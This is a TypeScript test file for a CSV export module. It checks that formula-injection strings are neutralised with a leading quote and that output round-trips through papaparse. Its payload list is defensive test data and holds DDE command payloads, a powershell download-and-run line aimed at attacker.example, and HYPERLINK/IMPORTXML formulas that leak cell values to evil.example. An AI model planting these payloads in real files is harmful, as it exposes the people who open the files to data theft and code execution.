import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { neutralizeFormula, toCsv, type CsvCell } from './csv';

/** Parse our output back: strip the BOM, parse with papaparse, drop the row after the final CRLF. */
function parseBack(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const parsed = Papa.parse<string[]>(csv.slice(1), {
    delimiter: ',',
    newline: '\r\n',
    skipEmptyLines: false,
  });
  expect(parsed.errors).toEqual([]);
  const data = parsed.data;
  expect(data[data.length - 1]).toEqual(['']);
  return data.slice(0, -1);
}

const OWASP_PAYLOADS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,1)',
  '\t=1',
  '\r=1',
  "=cmd|' /C notepad'!'A1'",
  "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '-1+1|cmd',
  '+1',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
  '＝1+1',
  '＋cmd',
  '  =1+1',
  '=ВПР(A1;B1:C9;2)',
  '=\u0645\u062d\u0645\u062f',
];

describe('neutralizeFormula', () => {
  it.each(OWASP_PAYLOADS)('neutralises %j', (payload) => {
    expect(neutralizeFormula(payload)).toBe(`'${payload}`);
  });

  it.each(['hello', '', 'a=b', '1+1', 'José Muñoz', '王小明', "'already quoted", ' hi', '3-2'])(
    'leaves %j alone',
    (cell) => {
      expect(neutralizeFormula(cell)).toBe(cell);
    },
  );
});

describe('toCsv', () => {
  it('writes RFC 4180 with BOM and CRLF', () => {
    expect(
      toCsv([
        ['a', 'b'],
        ['1', '2'],
      ]),
    ).toBe('\uFEFFa,b\r\n1,2\r\n');
    expect(toCsv([['x,y', 'say "hi"', 'line1\nline2', 'cr\rhere']])).toBe(
      '\uFEFF"x,y","say ""hi""","line1\nline2","cr\rhere"\r\n',
    );
    expect(toCsv([])).toBe('\uFEFF');
  });

  it('writes numbers, booleans, null and undefined', () => {
    expect(toCsv([[1, -2.5, true, false, null, undefined, Number.NaN]])).toBe(
      '\uFEFF1,-2.5,true,false,,,\r\n',
    );
  });

  it('quotes neutralised cells that need quoting', () => {
    expect(toCsv([['\r=1', '=SUM(1,2)']])).toBe('\uFEFF"\'\r=1","\'=SUM(1,2)"\r\n');
  });

  it('keeps a lone empty field distinguishable from an empty line', () => {
    expect(parseBack(toCsv([['a'], [''], [null], ['b']]))).toEqual([['a'], [''], [''], ['b']]);
  });

  it('round-trips through papaparse: same cells, plus the quote on neutralised ones', () => {
    const rows: CsvCell[][] = [
      ['name', 'comment', 'count'],
      ['José Muñoz', 'He said "hello", then left', 3],
      ['王小明', '多行\n文本\r\n第三行', 0],
      ['محمد الأحمد', 'שלום, עולם', -7],
      ['Иван Петров', 'tab\tinside', 1.5],
      ['emoji 👩🏽‍💻', '', null],
      ...OWASP_PAYLOADS.map((p): CsvCell[] => [p, `x${p}`, true]),
    ];
    const back = parseBack(toCsv(rows));
    const expected = rows.map((row) =>
      row.map((cell) => {
        if (cell === null || cell === undefined) return '';
        if (typeof cell !== 'string') return String(cell);
        return neutralizeFormula(cell);
      }),
    );
    expect(back).toEqual(expected);
    for (let i = 0; i < OWASP_PAYLOADS.length; i++) {
      const row = back[rows.length - OWASP_PAYLOADS.length + i];
      expect(row[0]).toBe(`'${OWASP_PAYLOADS[i]}`);
      expect(row[1]).toBe(`x${OWASP_PAYLOADS[i]}`);
    }
  });

  it('no parsed text cell starts with a formula trigger', () => {
    const back = parseBack(toCsv(OWASP_PAYLOADS.map((p) => [p, p.trim()])));
    for (const row of back)
      for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@\t\r＝＋－＠]/);
  });
});
